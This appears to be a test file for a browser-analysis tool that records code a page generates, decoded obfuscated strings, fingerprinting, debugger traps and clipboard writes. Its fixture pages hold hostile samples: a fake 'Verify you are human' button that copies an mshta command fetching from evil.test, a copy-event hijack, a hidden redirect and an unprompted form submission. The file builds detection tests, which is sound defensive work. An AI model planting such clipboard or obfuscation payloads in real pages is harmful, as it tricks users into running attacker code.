import { expect } from 'chai';
import type { Behaviour, Capture, ScriptRecord } from '../../../records/index.ts';
import { part, render, startLab, type Lab } from '../lab.ts';

/** A module that imports env.log and exports run; nothing else. */
const wasm = '[0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,11,1,3,101,110,118,3,108,111,103,0,0,3,2,1,0,7,7,1,3,114,117,110,0,1,10,4,1,2,0,11]';

const pages: Readonly<Record<string, string>> = {
  'http://site.test/made': `<h1>Made</h1><pre></pre><script>
    (function () { const secret = 'local'; document.querySelector('pre').textContent = eval("secret + ' was seen' /* by direct eval */"); })();
    new Function('a', 'return a + 1; // made by Function')(1);
    setTimeout("window.byTimer = 'made by a timer'", 10);
    eval("window.named = 1; // made with a name\\n//# sourceURL=app.js");
    const written = document.createElement('script'); written.text = 'window.inserted = "and gone again"'; document.body.append(written); written.remove();
    const loaded = document.createElement('script'); loaded.src = URL.createObjectURL(new Blob(['window.blob = "behind a blob"'])); document.body.append(loaded);
    import('data:text/javascript,window.data = "behind a data URL"');
  </script>`,
  'http://site.test/decode': `<h1>Decode</h1><script>
    const hidden = btoa('document.title = "decoded"; location = "https://evil.test/next"');
    eval(atob(hidden).split(';')[0]);
    atob(btoa('abc'));
    unescape('%3Cscript%3E'.repeat(30));
    String.fromCharCode(...Array.from('document.location.href.toString()', (letter) => letter.charCodeAt(0)));
  </script>`,
  'http://site.test/fingerprint': `<h1>Who</h1><canvas></canvas><script>
    const canvas = document.querySelector('canvas'); canvas.getContext('2d').fillText('x', 1, 1); canvas.toDataURL();
    new OfflineAudioContext(1, 1, 44100); navigator.plugins.length; navigator.hardwareConcurrency;
    const pen = canvas.getContext('2d'); for (let i = 0; i < 80; i++) pen.measureText('mmm');
  </script>`,
  'http://site.test/trap': `<h1>Trap</h1><pre></pre><script>
    const before = performance.now();
    for (let i = 0; i < 20; i++) (function () {}).constructor('debugger')();
    debugger;
    document.querySelector('pre').textContent = performance.now() - before < 1500 ? 'no debugger' : 'debugger';
    setInterval(() => { eval('debugger; ' + Math.random()); }, 20);
  </script>`,
  'http://site.test/flood': `<h1>Flood</h1><script>for (let i = 0; i < 3000; i++) eval('window.n = ' + i)</script>`,
  'http://site.test/wasm': `<h1>Wasm</h1><script>WebAssembly.instantiate(new Uint8Array(${wasm}), { env: { log() {} } })</script>`,
  'http://site.localhost/doors': `<h1>Doors</h1><script>
    navigator.serviceWorker.register('/sw.js').catch(() => {});
    navigator.credentials.get({ password: true }).catch(() => {});
    new PaymentRequest([{ supportedMethods: 'https://pay.test/' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } });
    navigator.bluetooth?.requestDevice({ acceptAllDevices: true }).catch(() => {});
    navigator.usb.requestDevice({ filters: [] }).catch(() => {});
    window.showSaveFilePicker?.().catch(() => {});
  </script>`,
  'http://site.test/submit': `<h1>Submit</h1><form id="f" action="http://collect.test/in" target="none"><input name="a" value="b"></form><iframe name="none"></iframe><script>document.getElementById('f').submit()</script>`,
  'http://site.test/clipboard': `<button id="b">Copy the fix</button><textarea id="t">typed text</textarea><script>
    document.getElementById('b').onclick = () => { document.getElementById('t').select(); document.execCommand('copy'); navigator.clipboard?.readText().catch(() => {}); };
  </script>`,
  'http://site.localhost/clipboard': '<button onclick="navigator.clipboard.writeText(\'mshta http://evil.test/a\'); navigator.clipboard.readText().catch(() => {})">Verify you are human</button>',
  'http://site.test/clipboard-event': `<button id="b">Copy</button><script>
    document.addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', 'cmd /c calc'); event.preventDefault(); });
    document.getElementById('b').onclick = () => document.execCommand('copy');
  </script>`,
};

describe('code that a page makes, and what it asks', function () {
  this.timeout(60_000);
  let lab: Lab;
  let captures: Map<string, Capture>;
  const made = (url: string): ScriptRecord[] => part(captures.get(url), 'scripts').filter(({ kind }) => kind === 'eval');
  const of = (url: string, kind: Behaviour['kind']): Behaviour[] => part(captures.get(url), 'behaviour').filter((one) => one.kind === kind);

  before(async () => {
    lab = await startLab();
    for (const [url, body] of Object.entries(pages)) lab.serve(url, body);
    captures = await render(lab, Object.keys(pages));
  });
  after(() => lab.close());

  for (const [via, text] of [
    ['eval', "secret + ' was seen' /* by direct eval */"], ['function', 'return a + 1; // made by Function'], ['timer', "window.byTimer = 'made by a timer'"],
    ['eval', 'window.named = 1; // made with a name'], ['eval', 'window.inserted = "and gone again"'], ['url', 'window.data = "behind a data URL"'],
  ] as const) {
    it(`keeps the text of code made by ${via}: ${text}`, () => {
      const found = made('http://site.test/made').find((script) => script.text.includes(text));
      expect(found?.via).to.equal(via);
      expect(found?.sha256).to.match(/^[0-9a-f]{64}$/);
    });
  }

  it('keeps the text of a script behind a blob', () => {
    expect(part(captures.get('http://site.test/made'), 'scripts').find(({ url }) => url?.startsWith('blob:'))?.text).to.equal('window.blob = "behind a blob"');
  });

  it('leaves direct eval what it is: it sees the variables around it', () => {
    expect(part(captures.get('http://site.test/made'), 'frames')[0]?.text).to.contain('local was seen');
  });

  it('calls nothing of its own a script of the page', () => {
    expect(made('http://site.test/wasm')).to.deep.equal([]);
    expect(made('http://site.test/made')).to.have.length(6);
  });

  it('tells what packed text turned into, and not what decodes to nothing much', () => {
    const decoded = of('http://site.test/decode', 'decode');
    expect(decoded.map(({ via }) => via)).to.have.members(['atob', 'unescape', 'fromCharCode']);
    expect(decoded.find(({ via }) => via === 'atob')?.detail).to.contain('https://evil.test/next');
    expect(made('http://site.test/decode')[0]?.text).to.equal('document.title = "decoded"');
  });

  it('tells which interfaces a page tells machines apart by', () => {
    expect(of('http://site.test/fingerprint', 'fingerprint').map(({ detail }) => detail)).to.include.members(['canvas', 'audio', 'plugins', 'hardwareConcurrency', 'fonts']);
    expect(of('http://site.test/made', 'fingerprint')).to.deep.equal([]);
  });

  it('is not held by a debugger statement, and tells of the trap', () => {
    expect(part(captures.get('http://site.test/trap'), 'frames')[0]?.text).to.contain('no debugger');
    expect(of('http://site.test/trap', 'debugger-trap').length).to.be.within(2, 110);
  });

  it('stops listening to a flood of code, and says how much was left out', () => {
    expect(made('http://site.test/flood')).to.have.lengthOf.within(95, 100);
    const scripts = captures.get('http://site.test/flood')?.parts.scripts;
    expect(scripts?.state === 'collected' ? scripts.cut : null).to.match(/^\d+ more scripts were not kept$/);
  });

  it('tells what a WebAssembly module asks for and offers', () => {
    expect(part(captures.get('http://site.test/wasm'), 'wasm')[0]).to.deep.include({ frameUrl: 'http://site.test/wasm', bytes: 46, imports: ['env.log'], exports: ['run'] });
    expect(of('http://site.test/wasm', 'wasm')).to.have.length(1);
  });

  it('tells of doors that few pages open', () => {
    expect(of('http://site.localhost/doors', 'service-worker')[0]?.detail).to.equal('/sw.js');
    expect(of('http://site.localhost/doors', 'credential-request')[0]?.detail).to.equal('password get');
    expect(of('http://site.localhost/doors', 'payment-request')[0]?.detail).to.equal('https://pay.test/');
    expect(of('http://site.localhost/doors', 'device-request').map(({ detail }) => detail)).to.include('usb');
    expect(of('http://site.localhost/doors', 'file-picker')[0]?.detail).to.equal('showSaveFilePicker');
    expect(of('http://site.test/submit', 'form-submit')[0]).to.include({ detail: 'http://collect.test/in', unprompted: true });
  });

  for (const [url, via, text] of [['http://site.test/clipboard', 'exec-command', 'typed text'], ['http://site.localhost/clipboard', 'async', 'mshta http://evil.test/a'], ['http://site.test/clipboard-event', 'copy-event', 'cmd /c calc']] as const) {
    it(`tells what is copied, and that it was by ${via}`, () => {
      const [write, ...more] = of(url, 'clipboard-write');
      expect(write).to.include({ via, detail: text, unprompted: false });
      expect(more).to.deep.equal([]);
    });
  }

  it('tells who reads the clipboard', () => {
    expect(of('http://site.localhost/clipboard', 'clipboard-read')[0]).to.include({ via: 'async', detail: 'readText' });
  });
});
